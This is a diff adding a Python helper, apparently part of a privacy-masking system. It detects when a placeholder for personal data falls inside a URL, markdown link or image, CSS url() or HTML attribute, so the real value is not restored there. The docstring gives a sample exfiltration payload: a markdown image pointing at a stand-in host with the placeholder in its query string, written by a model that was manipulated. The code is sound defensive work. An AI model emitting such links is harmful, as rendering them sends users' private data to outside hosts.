@@ -1,0 +1,53 @@
+"""Where nothing is put back: inside a URL, a host, the target of a link or an image.
+
+A model that was talked into it could write `![](https://elsewhere/?q=[HKID_1])`, and whatever shows the answer would
+carry the value there. Sources: CommonMark 0.31 (link destinations), GFM (autolinks), HTML (attributes that hold URLs).
+"""
+
+import re
+
+_URL = re.compile(r"://|\bwww\.|(?:[a-z0-9-]{1,63}\.){1,8}[a-z]{2,24}(?::\d{1,5})?[/?#]", re.IGNORECASE)
+_RUN = re.compile(r"[^\s<>\"'`]*\Z")
+_REFERENCE = re.compile(r"(?:^|\n) {0,3}\[[^\[\]\n]{1,200}\]:[ \t]*<?//[^\s]*\Z")
+_STYLE = re.compile(r"url\(\s*[\"']?//[^)\s]*\Z", re.IGNORECASE)
+_ATTRIBUTE = re.compile(
+    r"(?:src|srcset|href|action|formaction|poster|background|ping|longdesc|cite)\s*=\s*(?:\"[^\"]*|'[^']*|[^\s\"'>]*)\Z",
+    re.IGNORECASE,
+)
+_TAG = re.compile(r"<[a-zA-Z][^<]*\Z")
+
+
+def target_before(before: str) -> str | None:
+    """The target that a stand-in right behind `before` would stand in, as far as it is written; None outside of one."""
+    run = _RUN.search(before)
+    said = run.group() if run else ""
+    url = _URL.search(said)
+    if url is not None:
+        return _from_scheme(said, url.start())
+    return _markdown(before) or _html(before)
+
+
+def _from_scheme(run: str, start: int) -> str:
+    while start and run[start - 1].isalnum():
+        start -= 1
+    return run[start:]
+
+
+def _markdown(before: str) -> str | None:
+    at = before.rfind("](")
+    if at >= 0:
+        rest = before[at + 2 :].lstrip()
+        if rest.startswith("<"):
+            closed = ">" in rest or "\n" in rest
+        else:
+            closed = any(sign.isspace() for sign in rest) or rest.count(")") > rest.count("(")
+        if not closed:
+            return before[at:]
+    found = _REFERENCE.search(before) or _STYLE.search(before)
+    return found.group() if found else None
+
+
+def _html(before: str) -> str | None:
+    tag = _TAG.search(before, max(0, before.rfind("<")))
+    found = _ATTRIBUTE.search(tag.group()) if tag else None
+    return found.group() if found else None
